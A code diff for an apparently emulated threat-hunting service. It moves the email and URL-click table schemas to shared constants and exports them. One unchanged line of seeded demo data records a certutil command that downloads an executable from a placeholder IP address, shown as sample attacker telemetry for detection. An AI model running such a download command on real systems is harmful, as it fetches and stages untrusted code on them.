@@ -10,6 +10,36 @@ const { HttpError, toApiTime } = require('./util');
 const TYPES = ['String', 'DateTime', 'Int32', 'Int64', 'Double', 'Boolean', 'Dynamic', 'Guid'];
 const MAX_ROWS = 100_000;
 
+/** A table schema: Timestamp is a DateTime, the other columns Strings unless `types` says otherwise. */
+const S = (/** @type {string[]} */ names, /** @type {Record<string, string>} */ types = {}) =>
+	names.map((name) => ({
+		name,
+		type: types[name] ?? (name === 'Timestamp' ? 'DateTime' : 'String'),
+	}));
+// The columns of the email tables the seeds fill (shared by the demo data and the phishing seed).
+const EMAIL_EVENTS_SCHEMA = S([
+	'Timestamp',
+	'NetworkMessageId',
+	'RecipientEmailAddress',
+	'SenderFromAddress',
+	'Subject',
+	'DeliveryAction',
+	'DeliveryLocation',
+	'ThreatTypes',
+]);
+const URL_CLICK_EVENTS_SCHEMA = S(
+	[
+		'Timestamp',
+		'AccountUpn',
+		'Url',
+		'ActionType',
+		'IsClickedThrough',
+		'Workload',
+		'NetworkMessageId',
+	],
+	{ IsClickedThrough: 'Boolean' },
+);
+
 /**
  * @typedef {{ name: string, type: string }} Column
  * @typedef {Record<string, unknown>} Row
@@ -411,11 +441,6 @@ function defaultTables() {
 		['certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe', 'alice'],
 		['notepad.exe', 'notepad.exe C:\\Users\\carol\\notes.txt', 'carol'],
 	];
-	const S = (/** @type {string[]} */ names, /** @type {Record<string, string>} */ types = {}) =>
-		names.map((name) => ({
-			name,
-			type: types[name] ?? (name === 'Timestamp' ? 'DateTime' : 'String'),
-		}));
 	const [ws1, ws2, srv] = devices;
 	return new Map([
 		[
@@ -585,16 +610,7 @@ function defaultTables() {
 		[
 			'EmailEvents',
 			toTable('EmailEvents', {
-				schema: S([
-					'Timestamp',
-					'NetworkMessageId',
-					'RecipientEmailAddress',
-					'SenderFromAddress',
-					'Subject',
-					'DeliveryAction',
-					'DeliveryLocation',
-					'ThreatTypes',
-				]),
+				schema: EMAIL_EVENTS_SCHEMA,
 				rows: [
 					{
 						Timestamp: at(90),
@@ -612,18 +628,7 @@ function defaultTables() {
 		[
 			'UrlClickEvents',
 			toTable('UrlClickEvents', {
-				schema: S(
-					[
-						'Timestamp',
-						'AccountUpn',
-						'Url',
-						'ActionType',
-						'IsClickedThrough',
-						'Workload',
-						'NetworkMessageId',
-					],
-					{ IsClickedThrough: 'Boolean' },
-				),
+				schema: URL_CLICK_EVENTS_SCHEMA,
 				rows: [
 					{
 						Timestamp: at(85),
@@ -935,4 +940,4 @@ function createHunting({ apiBases, getTenant, alertEntries }) {
 	return { routes, setHuntingTable };
 }
 
-module.exports = { createHunting };
+module.exports = { createHunting, EMAIL_EVENTS_SCHEMA, URL_CLICK_EVENTS_SCHEMA };
